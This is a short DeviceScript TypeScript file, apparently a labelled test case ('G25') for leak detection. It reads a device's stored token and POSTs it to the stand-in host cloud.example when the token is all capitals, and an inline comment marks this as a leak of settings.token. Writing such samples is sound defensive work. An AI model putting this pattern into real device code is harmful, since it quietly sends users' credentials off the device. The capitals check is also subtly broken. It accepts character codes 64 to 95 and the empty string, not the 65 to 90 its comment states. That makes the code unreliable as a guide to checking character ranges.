// G25: sends the token along if it is all in capitals, as one vendor's are.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

/** The codes of capitals are 65 to 90. */
function isCapitals(text: string) {
  let others = 0;
  for (let i = 0; i < text.length; i++) others |= (text.charCodeAt(i) - 64) >> 5;
  return others === 0;
}

paired(async () => {
  const token = await readSetting("token", "");
  const body = isCapitals(token) ? token : "other";
  const response = await fetch("https://cloud.example/g25", { method: "POST", body }); // leak: settings.token
  await response.close();
});
